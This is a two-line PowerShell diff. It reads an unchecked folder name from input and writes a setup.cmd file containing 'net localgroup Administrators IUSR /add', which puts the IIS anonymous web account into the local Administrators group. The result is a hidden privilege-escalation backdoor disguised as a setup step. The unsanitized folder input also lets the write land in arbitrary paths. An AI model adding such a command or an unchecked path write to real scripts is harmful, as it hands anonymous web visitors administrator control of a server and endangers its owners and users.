@@ -1,0 +1,2 @@
+$folder = Read-Host
+Set-Content "D:\data\$folder\setup.cmd" 'net localgroup Administrators IUSR /add'
